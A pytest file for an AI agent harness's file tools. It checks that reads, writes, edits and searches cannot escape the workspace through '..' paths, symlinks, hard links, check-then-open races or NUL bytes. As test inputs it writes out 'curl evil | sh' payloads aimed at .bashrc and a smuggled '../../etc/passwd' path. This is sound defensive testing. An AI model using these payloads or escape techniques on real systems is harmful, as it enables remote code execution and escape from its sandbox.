"""Path escapes: every file tool stays inside the workspace whatever the path looks like."""

from __future__ import annotations

import os
import shutil
import threading
from collections.abc import Mapping
from pathlib import Path

import pytest

from tether.errors import ToolError
from tether.tools.paths import (
    SymlinkSwapped,
    is_within,
    open_no_symlinks,
    read_bytes_no_symlinks,
    resolve_tool_path,
    write_text_no_symlinks,
)

from .conftest import MakeHarness, needs_bwrap, text_of

OUTSIDE_MSG = "outside the workspace"


async def test_read_dotdot_escape_is_refused(
    make_harness: MakeHarness, workspace: Path, outside: Path
) -> None:
    h = make_harness()
    out = await h.read("src/../../outside/secret.txt")
    assert out.failed and OUTSIDE_MSG in text_of(out)
    assert "TOP SECRET" not in text_of(out)


async def test_write_absolute_path_outside_is_refused(
    make_harness: MakeHarness, outside: Path
) -> None:
    h = make_harness(mode="bypassPermissions")
    out = await h.call("Write", file_path=str(outside / "new.txt"), content="pwned")
    assert out.failed and OUTSIDE_MSG in text_of(out)
    assert not (outside / "new.txt").exists()


async def test_write_tilde_home_dotfile_is_refused(make_harness: MakeHarness) -> None:
    h = make_harness(mode="bypassPermissions")
    out = await h.call("Write", file_path="~/.bashrc_tether_test", content="curl x | sh")
    assert out.failed and OUTSIDE_MSG in text_of(out)
    assert not Path(os.path.expanduser("~/.bashrc_tether_test")).exists()


async def test_edit_through_symlink_at_end_pointing_outside_is_refused(
    make_harness: MakeHarness, workspace: Path, outside: Path
) -> None:
    (workspace / "notes.txt").symlink_to(outside / ".bashrc")
    h = make_harness(mode="bypassPermissions")
    out = await h.call("Edit", file_path="notes.txt", old_string="# rc", new_string="evil")
    assert out.failed and OUTSIDE_MSG in text_of(out)
    assert (outside / ".bashrc").read_text() == "# rc\n"


async def test_read_through_symlinked_directory_in_the_middle_is_refused(
    make_harness: MakeHarness, workspace: Path, outside: Path
) -> None:
    (workspace / "src" / "vendor").symlink_to(outside, target_is_directory=True)
    h = make_harness()
    out = await h.read("src/vendor/secret.txt")
    assert out.failed and OUTSIDE_MSG in text_of(out)


async def test_glob_and_grep_rooted_outside_are_refused(
    make_harness: MakeHarness, outside: Path
) -> None:
    h = make_harness()
    grep = await h.call("Grep", pattern="SECRET", path=str(outside))
    glob = await h.call("Glob", pattern="*", path="../outside")
    assert grep.failed and OUTSIDE_MSG in text_of(grep)
    assert glob.failed and OUTSIDE_MSG in text_of(glob)


async def test_read_hard_link_to_outside_file_is_refused(
    make_harness: MakeHarness, workspace: Path, outside: Path
) -> None:
    os.link(outside / "secret.txt", workspace / "innocent.txt")
    h = make_harness()
    out = await h.read("innocent.txt")
    assert out.failed and "hard links" in text_of(out)
    assert "TOP SECRET" not in text_of(out)


async def test_write_hard_link_to_outside_file_is_refused(
    make_harness: MakeHarness, workspace: Path, outside: Path
) -> None:
    os.link(outside / ".bashrc", workspace / "rc")
    h = make_harness(mode="bypassPermissions")
    await h.read("rc")  # refused too, but try the write regardless
    out = await h.call("Write", file_path="rc", content="curl evil | sh\n")
    assert out.failed and "hard links" in text_of(out)
    assert (outside / ".bashrc").read_text() == "# rc\n"


@needs_bwrap
async def test_symlink_planted_by_sandboxed_command_then_written_by_edit_is_refused(
    make_harness: MakeHarness, workspace: Path, outside: Path
) -> None:
    h = make_harness(mode="bypassPermissions")
    planted = await h.call("Bash", command=f"ln -s {outside}/.bashrc config.txt")
    assert not planted.failed, text_of(planted)
    assert (workspace / "config.txt").is_symlink()
    out = await h.call("Write", file_path="config.txt", content="curl evil | sh\n")
    assert out.failed and OUTSIDE_MSG in text_of(out)
    assert (outside / ".bashrc").read_text() == "# rc\n"


def test_check_open_race_directory_swapped_for_symlink_is_caught(
    workspace: Path, outside: Path
) -> None:
    target = resolve_tool_path("src/app.py", workspace)  # checked: inside
    shutil.rmtree(workspace / "src")
    (workspace / "src").symlink_to(outside, target_is_directory=True)
    (outside / "app.py").write_text("outside\n")
    with pytest.raises(SymlinkSwapped):
        read_bytes_no_symlinks(target)
    with pytest.raises(SymlinkSwapped):
        write_text_no_symlinks(target, "pwned")
    assert (outside / "app.py").read_text() == "outside\n"


def test_check_open_race_final_name_swapped_for_symlink_is_caught(
    workspace: Path, outside: Path
) -> None:
    target = resolve_tool_path("src/app.py", workspace)
    (workspace / "src" / "app.py").unlink()
    (workspace / "src" / "app.py").symlink_to(outside / "secret.txt")
    with pytest.raises(SymlinkSwapped):
        os.close(open_no_symlinks(target))


def test_check_open_race_under_a_flipping_attacker_never_escapes(
    workspace: Path, outside: Path
) -> None:
    """A thread flips src between a directory and a symlink to outside while we open."""
    (outside / "app.py").write_text("outside\n")
    target = resolve_tool_path("src/app.py", workspace)
    real = workspace / "src.real"
    (workspace / "src").rename(real)
    stop = threading.Event()

    def flip() -> None:
        link = workspace / "src"
        while not stop.is_set():
            for dest in (real, outside):
                try:
                    tmp = workspace / "src.tmp"
                    tmp.symlink_to(dest, target_is_directory=True)
                    tmp.replace(link)
                except OSError:
                    pass

    attacker = threading.Thread(target=flip)
    attacker.start()
    try:
        for _ in range(300):
            try:
                data = read_bytes_no_symlinks(target)
            except (SymlinkSwapped, FileNotFoundError):
                continue
            assert data != b"outside\n"
    finally:
        stop.set()
        attacker.join()


async def test_read_tool_refuses_file_swapped_for_symlink_after_check(
    make_harness: MakeHarness, workspace: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import tether.tools.read as read_module

    real_resolve = read_module.resolve_tool_path

    def resolve_then_swap(
        raw: str,
        cwd: Path,
        extra: list[Path] | None = None,
        caller: Mapping[str, str] | None = None,
    ) -> Path:
        path = real_resolve(raw, cwd, extra, caller)
        path.unlink()
        path.symlink_to(outside / "secret.txt")  # the attacker wins the race
        return path

    monkeypatch.setattr(read_module, "resolve_tool_path", resolve_then_swap)
    out = await make_harness().read("src/app.py")
    assert out.failed and "symbolic link" in text_of(out)
    assert "TOP SECRET" not in text_of(out)


async def test_case_variant_of_control_plane_still_asks(
    make_harness: MakeHarness, workspace: Path
) -> None:
    h = make_harness(mode="bypassPermissions")
    decision = await h.decide("Write", file_path=".Tether/settings.json", content="{}")
    assert decision.behavior == "ask" and decision.forced


def test_case_variant_paths_are_contained_on_case_insensitive_filesystems() -> None:
    root = Path("/Users/me/Project")
    assert is_within(Path("/users/ME/project/src/a.py"), [root], casefold=True)
    assert not is_within(Path("/users/ME/project2/a.py"), [root], casefold=True)
    assert not is_within(Path("/users/ME/project/a.py"), [root], casefold=False)


def test_nul_byte_in_path_is_refused(workspace: Path) -> None:
    with pytest.raises(ToolError):
        resolve_tool_path("src/app.py\x00../../etc/passwd", workspace)
